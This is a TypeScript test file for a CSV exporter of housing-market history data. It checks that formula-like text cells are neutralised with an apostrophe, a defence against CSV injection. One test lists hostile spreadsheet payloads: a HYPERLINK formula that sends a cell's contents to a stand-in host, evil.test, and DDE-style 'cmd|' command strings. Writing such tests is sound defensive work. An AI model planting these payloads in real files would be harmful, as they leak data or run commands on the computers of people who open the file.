import { describe, expect, it } from 'vitest';
import { historyCsvOf, type THistoryPoint } from '../../contract/history.js';

const point = (over: Partial<THistoryPoint>): THistoryPoint => ({
  city: 'Douala',
  neighborhood: null,
  near: null,
  radius_m: null,
  purpose: 'rent',
  type: null,
  bedrooms: null,
  month: '2026-10',
  active_listings: 10,
  new_listings: 2,
  removed_listings: { sold: 0, rented: 1, withdrawn: 0 },
  sample_size: 10,
  p25_price: 100_000,
  median_price: 150_000,
  p75_price: 200_000,
  price_per_m2_sample_size: 0,
  median_price_per_m2: null,
  days_on_market_sample_size: 1,
  median_days_on_market: 30,
  median_price_change_pct: -2.5,
  currency: 'XAF',
  ...over,
});

/** RFC 4180 fields of one line (quoted fields may hold commas and doubled quotes). */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("([^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    const raw = m[1];
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[3] === '') break;
  }
  return out;
}

describe('the history CSV answer', () => {
  it('puts an apostrophe before a text cell a spreadsheet would run as a formula (OWASP), and keeps numbers as numbers', () => {
    const hostile = ['=HYPERLINK("http://evil.test/?leak="&A2)', '@SUM(1+1)*cmd|x', '-2+3+cmd|x', '+1', '\tx', '\rx'];
    const csv = historyCsvOf(hostile.map((name) => point({ neighborhood: name })));
    const [header, ...lines] = csv.slice(0, -2).split(/\r\n(?=Douala)/);
    const columns = fields(header);
    expect(lines).toHaveLength(hostile.length);
    for (const [i, line] of lines.entries()) {
      const row = Object.fromEntries(fields(line).map((v, j) => [columns[j], v]));
      expect(row.neighborhood).toBe(`'${hostile[i]}`);
      // A negative figure is a number, not a formula: it goes out as it is.
      expect(row.median_price_change_pct).toBe('-2.5');
      expect(row.city).toBe('Douala');
    }
  });

  it('leaves ordinary names as they are', () => {
    const csv = historyCsvOf([point({ neighborhood: 'Bonapriso' }), point({ city: 'Yaoundé', neighborhood: 'Biyem-Assi' })]);
    expect(csv).toContain('\r\nDouala,Bonapriso,,,rent,');
    expect(csv).toContain('\r\nYaoundé,Biyem-Assi,,,rent,');
  });
});
